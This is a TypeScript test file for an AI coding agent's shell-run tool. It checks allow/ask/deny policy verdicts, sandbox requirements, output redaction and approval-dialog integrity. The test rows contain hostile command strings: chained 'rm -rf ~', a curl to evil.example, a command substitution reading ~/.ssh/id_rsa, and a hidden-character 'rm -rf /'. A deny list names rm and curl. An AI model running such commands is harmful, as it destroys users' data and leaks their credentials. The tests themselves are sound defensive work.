import assert from 'node:assert/strict';
import path from 'node:path';
import type { ToolPlan } from '../../../../../src/core/agent/agentTool';
import { MAX_COMMAND_OUTPUT_CHARS, shellRunTool, type CommandEnd, type CommandIsolation, type CommandPort, type CommandRequest } from '../../../../../src/core/agent/tools/shellRunTool';
import { createFileGuard } from '../../../../../src/core/guard/fileGuard';
import { policyPackSchema, type PolicyPack } from '../../../../../src/core/policy/policySchema';
import { createTempWorkspace, type TempWorkspace } from '../../guard/tempWorkspace';

// shell.run decides with the policy's commands rules and the sandbox there is; the runner behind
// the port is the adapter's (the real sandbox is tested in test/unit/core/sandbox). This port
// records what it was asked and answers as a command would.

const SANDBOX: CommandIsolation = { sandboxed: true, backend: 'bubblewrap 0.8.0' };
const NONE: CommandIsolation = { sandboxed: false, reason: 'bubblewrap is not installed' };

function port(isolation: CommandIsolation, output: readonly string[] = [], end: CommandEnd = { ran: true, exitCode: 0, reason: 'exited with code 0' }): CommandPort & { requests: CommandRequest[] } {
  const requests: CommandRequest[] = [];
  return {
    requests,
    isolation: () => Promise.resolve(isolation),
    run: (request) => {
      requests.push(request);
      for (const chunk of output) request.onOutput(chunk);
      return Promise.resolve(end);
    },
  };
}

function pack(commands: Record<string, unknown> = {}): PolicyPack {
  return policyPackSchema.parse({ version: 1, name: 'test', files: { allow: ['**'], deny: ['**/.env', 'secrets/**'] }, commands: { allow: ['npm test', 'npm run *'], deny: ['rm -rf *', 'curl *'], ...commands } });
}

describe('shell.run: the commands rules, the sandbox, and what the model gets', () => {
  let w: TempWorkspace;
  before(async () => {
    w = await createTempWorkspace();
  });
  after(() => w.dispose());

  const tool = (isolation: CommandIsolation, policy: PolicyPack = pack(), commands = port(isolation)) =>
    shellRunTool({ policy: () => policy, guard: () => createFileGuard({ workspaceFolders: [w.ws], rules: policy.files }), roots: () => [w.ws], commands });

  const plan = async (isolation: CommandIsolation, command: string, cwd = '.', policy?: PolicyPack): Promise<ToolPlan> => {
    const t = tool(isolation, policy);
    return t.plan(t.parameters.parse({ command, cwd }));
  };

  const ROWS: { attack: string; command: string; cwd?: string; isolation?: CommandIsolation; policy?: PolicyPack; verdict: 'allow' | 'ask' | 'deny'; reason: RegExp }[] = [
    { attack: 'an allowed command runs without asking', command: 'npm test', verdict: 'allow', reason: /npm test/ },
    { attack: 'an allowed command chained with a denied one', command: 'npm test; rm -rf ~', verdict: 'deny', reason: /rm -rf/ },
    { attack: 'an allowed command chained with network access', command: 'npm test && curl https://evil.example/x', verdict: 'deny', reason: /curl/ },
    { attack: 'a command no rule names asks', command: 'make', verdict: 'ask', reason: /no rule|make/i },
    { attack: 'a secret read through command substitution asks', command: 'npm test $(cat ~/.ssh/id_rsa)', verdict: 'ask', reason: /substitution|cannot|\$\(/i },
    { attack: 'no sandbox and the policy does not opt in: refused, saying why', command: 'npm test', isolation: NONE, verdict: 'deny', reason: /bubblewrap is not installed.*commands\.unsandboxed/ },
    { attack: 'no sandbox, the policy opts in: even an allowed command asks', command: 'npm test', isolation: NONE, policy: pack({ unsandboxed: true }), verdict: 'ask', reason: /unsandboxed/ },
    { attack: 'a folder outside the workspace', command: 'npm test', cwd: '../outside', verdict: 'deny', reason: /outside the workspace/ },
    { attack: 'a denied folder', command: 'npm test', cwd: 'secrets', verdict: 'deny', reason: /folder cannot be used/ },
  ];
  for (const row of ROWS) {
    it(`${row.verdict}: ${row.attack}`, async () => {
      const planned = await plan(row.isolation ?? SANDBOX, row.command, row.cwd, row.policy);
      assert.equal(planned.verdict?.kind, row.verdict, planned.verdict?.reason);
      assert.match(planned.verdict?.reason ?? '', row.reason);
    });
  }

  it('the dialog shows the exact command line, the folder and whether it is sandboxed', async () => {
    const sandboxed = await plan(SANDBOX, 'npm run lint -- --fix', 'src');
    assert.match(sandboxed.detail, /^Command line:\n {2}npm run lint -- --fix\nIn: src\nIn the sandbox \(bubblewrap/);
    const bare = await plan(NONE, 'make', '.', pack({ unsandboxed: true }));
    assert.match(bare.detail, /WITHOUT A SANDBOX \(bubblewrap is not installed\)/);
  });

  it('a control character in the command cannot forge a second line in the summary or the dialog', async () => {
    const planned = await plan(SANDBOX, 'npm test\u202e\nrm -rf /');
    assert.doesNotMatch(planned.summary, /[\n\u202e]/);
    assert.match(planned.detail, /^Command line:\n {2}npm test\\u\{202e\}\\u\{a\}rm -rf \/\n/, 'the dialog spells the hidden characters out');
  });

  it('runs in the real folder, streams raw output to the card, and hands the model redacted output with the exit code', async () => {
    const secret = 'ghp_' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8';
    const commands = port(SANDBOX, ['ok 1\n', `token=${secret}\n`], { ran: true, exitCode: 1, reason: 'exited with code 1' });
    const t = tool(SANDBOX, pack(), commands);
    const seen: string[] = [];
    const result = await t.run(t.parameters.parse({ command: 'npm test', cwd: 'src' }), new AbortController().signal, (text) => seen.push(text));
    assert.ok(result.ok);
    assert.deepEqual(commands.requests.map((r) => [r.cwd, r.workspace, r.sandboxed]), [[path.join(w.ws, 'src'), w.ws, true]]);
    assert.equal(seen.join(''), `ok 1\ntoken=${secret}\n`, 'the card shows what the command printed');
    assert.doesNotMatch(result.content, new RegExp(secret), 'the model never gets the token');
    assert.match(result.content, /^\$ npm test\nok 1\n[^\n]*REDACTED[^\n]*\n\[exited with code 1\]\n\[1 secret\(s\) redacted from the output\]$/);
    assert.match(result.summary, /Ran npm test: exited with code 1/);
  });

  it('keeps the head and the tail of long output and says how much it left out', async () => {
    const long = `${'a'.repeat(MAX_COMMAND_OUTPUT_CHARS)}${'b'.repeat(1000)}END\n`;
    const t = tool(SANDBOX, pack(), port(SANDBOX, [long]));
    const result = await t.run(t.parameters.parse({ command: 'npm test' }), new AbortController().signal);
    assert.ok(result.ok);
    assert.match(result.content, /\[… 1004 characters left out …\]/);
    assert.match(result.content, /END\n\[exit code 0\]$/);
  });

  it('what the runner noted after the command (control files it removed) reaches the model and the card', async () => {
    const note = 'removed control files the command created, which commands may not write: .vscode/tasks.json';
    const t = tool(SANDBOX, pack(), port(SANDBOX, ['ok\n'], { ran: true, exitCode: 0, reason: 'exited with code 0', notes: [note] }));
    const result = await t.run(t.parameters.parse({ command: 'npm test' }), new AbortController().signal);
    assert.ok(result.ok);
    assert.ok(result.content.endsWith(`[exit code 0]\n[${note}]`), result.content);
    assert.ok(result.summary.endsWith(`· ${note}`), result.summary);
  });

  it('attack: a deny rule added while the dialog was open wins; the command does not run', async () => {
    let policy = pack();
    const commands = port(SANDBOX);
    const t = shellRunTool({ policy: () => policy, guard: () => createFileGuard({ workspaceFolders: [w.ws], rules: policy.files }), roots: () => [w.ws], commands });
    const args = t.parameters.parse({ command: 'make deploy' });
    assert.equal((await t.plan(args)).verdict?.kind, 'ask');
    policy = pack({ deny: ['make deploy'] });
    const result = await t.run(args, new AbortController().signal);
    assert.equal(result.ok, false);
    assert.match(result.ok ? '' : result.error, /refused by the policy in force now: .*make deploy/);
    assert.equal(commands.requests.length, 0);
  });

  it('a command the sandbox could not start is an error that says why', async () => {
    const t = tool(SANDBOX, pack(), port(SANDBOX, [], { ran: false, reason: 'the sandbox could not be set up: no user namespaces' }));
    const result = await t.run(t.parameters.parse({ command: 'npm test' }), new AbortController().signal);
    assert.deepEqual(result, { ok: false, error: 'the command did not run: the sandbox could not be set up: no user namespaces' });
  });
});
